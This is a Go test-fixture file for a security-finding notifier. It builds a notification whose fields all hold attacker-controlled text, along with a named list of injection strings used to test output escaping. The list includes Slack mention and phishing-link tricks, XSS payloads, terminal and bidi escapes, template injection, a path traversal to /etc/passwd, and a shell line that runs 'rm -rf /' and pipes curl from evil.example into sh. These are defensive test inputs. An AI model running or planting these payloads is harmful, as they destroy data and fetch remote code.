package formattertest

import (
	"strings"

	"github.com/tocsin-sec/tocsin/pkg/finding"
	"github.com/tocsin-sec/tocsin/pkg/notify"
)

// Filled puts text wherever an attacker could.
func Filled(text string) notify.Notification {
	f := Exfiltration()
	f.ID, f.Source, f.Type, f.Title, f.Description = text, text, text, text, text
	f.Account = finding.Account{ID: text, Name: text}
	f.Region, f.Partition = text, text
	facts := finding.Attributes{}.With(finding.AttrDomain, text).With(finding.AttrAPI, text).With(finding.AttrService, text).With(text, text)
	f.Resource = finding.Resource{Type: text, ID: text, Name: text + " x", Attributes: facts, Tags: []finding.Tag{{Key: text, Value: text}}}
	f.Related = []finding.Resource{f.Resource, f.Resource}
	f.Actor = finding.Actor{
		Remote:    finding.Remote{IP: text, Country: text, City: text, Organization: text, ASN: text, Domain: text},
		User:      finding.User{Name: text, Type: text, Session: text, AccessKey: text},
		Process:   finding.Process{Path: text, User: text, SHA256: text, PID: text},
		UserAgent: text,
	}
	f.Action = finding.Action{Kind: text, Attributes: facts}
	f.Vulnerability = finding.Vulnerability{
		ID: text, Score: 9.8, Exploit: finding.Answer(text), Packages: []finding.Package{
			{Name: text, Version: text, Fixed: text, Manager: text, Path: text}, {Name: text},
		},
	}
	f.Check = finding.Check{Control: text, Standards: []string{text, text}, Result: text}
	f.Remedy = finding.Remedy{Text: text, URL: text}
	f.Facts = finding.Attributes{}.With(text, text).With("bucket", text).With(finding.AttrPublicAccess, text).With("x", "https://evil.example")
	f.Native, f.Road = finding.Native{Source: text, ID: text, Product: text}, text
	f.Planned = finding.Window{Starts: at(8, 0), Ends: at(9, 0)}
	f.Threats = []finding.Threat{{Name: text, List: text, File: text}}
	f.Sequence = &finding.Sequence{
		Signals: []finding.Signal{{Name: text}}, Resources: f.Related, Actors: []finding.Actor{f.Actor, f.Actor},
		Indicators: []finding.Indicator{{Key: "ATTACK_TACTIC", Values: []string{text}}},
	}
	f = Described(f)
	f.About.Links.Native = f.About.Links.Finding
	return notify.Notification{
		Kind: notify.KindUpdate, Findings: []finding.Finding{f}, Changes: []notify.Change{{What: text, From: text, To: text}},
	}
}

// Attacks are texts that do harm where they are not escaped, by name.
func Attacks() map[string]string {
	return map[string]string{
		"mentions":          "<!channel> <!here> <@U012345> <!subteam^S1|x> @everyone @channel",
		"labelled link":     "<https://evil.example/login|Open in the console>",
		"bare URL":          "see https://evil.example/x?y=z and http://evil.example",
		"bare domain":       "evil.example, WWW.EVIL.EXAMPLE. and evil。example or xn--evl-7la.xn--p1ai",
		"wide dots":         "go to evil。example or evil．example or evil｡example",
		"other schemes":     "ftp://evil.example slack://open?team=T1 mailto:a@evil.example javascript:alert(1) tel:+123",
		"split scheme":      "ht\u200btps://evil.example h\u0000ttps://evil.example https\u200d://evil.example",
		"markup":            "*bold* _it_ ~st~ `code` ```block``` > quote &amp; &lt;!channel&gt;",
		"line breaks":       "one\r\nSubject: two\n\nHIGH 9.9 three\u2028four\u0085five\vsix",
		"terminal":          "\x1b[31mred\x1b]0;title\x07\x9b2J\x08\x7f",
		"directions":        "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
		"invisible":         "a\u200bb\u2060c\ufeffd\u00ade\U000e0041f\u3164g\u115fh",
		"invalid UTF-8":     "a\xff\xc3(\xe2\x82 \xed\xa0\x80",
		"no characters":     "\ufffe\uffff\U0001ffff\ufdd0",
		"blank":             " \t\u00a0\u3000\u2800 ",
		"long":              strings.Repeat("x", 100_000),
		"long in escapes":   strings.Repeat("&<>", 50_000),
		"long in runes":     strings.Repeat("é🔥", 30_000),
		"one long word":     strings.Repeat("a.b", 30_000),
		"template":          "{{.Secret}} ${HOME} %s %d $(id)",
		"backticks":         "`<!channel>` ``` https://evil.example ```",
		"a region for URL":  "eu-west-1.evil.example/#",
		"two domains":       "evil.example.c evil.example.evil.example. .evil.example",
		"defanged before":   "hxxps://evil[.]example/ evil.example[.]x evil[.]example.c",
		"user in a URL":     "https://console.aws.amazon.com@evil.example/ https://evil.example#.amazonaws.com",
		"like AWS":          "https://evil.example.amazonaws.com.evil.example/ s3.amazonaws.com.evil.example",
		"in S3":             "https://s3.amazonaws.com/bucket/key s3-eu-west-1.amazonaws.com:443/x s3.eu-west-1.amazonaws.com/b s3.amazonaws.com",
		"S3 alone":          "s3.amazonaws.com",
		"wide letters":      "ｈttps://evil.example ＜!channel＞ evil．example evil｡example",
		"Slack dates":       "<!date^1392734382^{date}^https://evil.example|x> <#C0123|general>",
		"our Slack date":    "<!date^1773649205^{date_short_pretty} {time}|2026-03-16 08:20:05 UTC> &lt;!date^1^{date_short_pretty} {time}|x&gt;",
		"half a date":       "> / <!date^1773649205^{date_short_pretty} {time}|",
		"words of markup":   "*HIGH* _a_ ~b~ a*b*c __init__ snake_case @here #general :skull: 08:20:05 >quote *日本* 日_本_語 (*x*) [_y_]",
		"marks at the ends": "*a b* _c d_ ~e f~ * g * `h i` > j",
		"emoji":             ":rotating_light: :skull: 🚨🚨🚨 👩\u200d👩\u200d👧",
		"HTML":              "<script>alert(1)</script><img src=x onerror=alert(1)> <a href='javascript:alert(1)'>x</a>",
		"entities":          "&lt;!channel&gt; &#60;!here&#62; &amp;lt;!channel&amp;gt; &#x3c;script&#x3e;",
		"Markdown":          "[Open](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example> [x]: https://evil.example",
		"combining":         "e" + strings.Repeat("\u0301", 500),
		"tag characters":    "flag\U000e0067\U000e0062\U000e007f \U000f0000 \ue000",
		"interlinear":       "\ufff9a\ufffab\ufffb \u2061\u2062",
		"nul and friends":   "\x00\x01\x02\x03\x7f\u0080\u009f",
		"hyperlink escape":  "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
		"format verbs":      "%!s(MISSING) %n%n%n %999999d {{}} {} {n} {type}",
		"pipes":             "x|y|<https://evil.example|z>|{}",
		"words of ours":     "undefined null NaN [SAMPLE] CRITICAL  ",
		"SQL and shell":     "'; DROP TABLE x; -- `rm -rf /` && curl evil.example | sh",
		"path":              "../../../../etc/passwd\\..\\windows",
	}
}
